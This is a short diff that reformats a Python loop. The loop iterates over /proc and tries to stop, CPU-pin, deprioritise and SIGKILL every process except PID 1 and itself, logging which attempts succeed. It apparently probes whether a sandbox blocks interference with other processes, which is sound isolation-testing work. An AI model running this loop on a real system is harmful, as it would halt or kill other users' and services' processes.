@@ -37,8 +37,12 @@ import os, signal
 tried = []
 for pid in os.listdir("/proc"):
     if pid.isdecimal() and pid not in ("1", str(os.getpid())):
-        for attack in (lambda: os.kill(int(pid), signal.SIGSTOP), lambda: os.sched_setaffinity(int(pid), {0}),
-                       lambda: os.setpriority(os.PRIO_PROCESS, int(pid), 19), lambda: os.kill(int(pid), signal.SIGKILL)):
+        for attack in (
+            lambda: os.kill(int(pid), signal.SIGSTOP),
+            lambda: os.sched_setaffinity(int(pid), {0}),
+            lambda: os.setpriority(os.PRIO_PROCESS, int(pid), 19),
+            lambda: os.kill(int(pid), signal.SIGKILL),
+        ):
             try:
                 attack(); tried.append("done")
             except OSError as error:
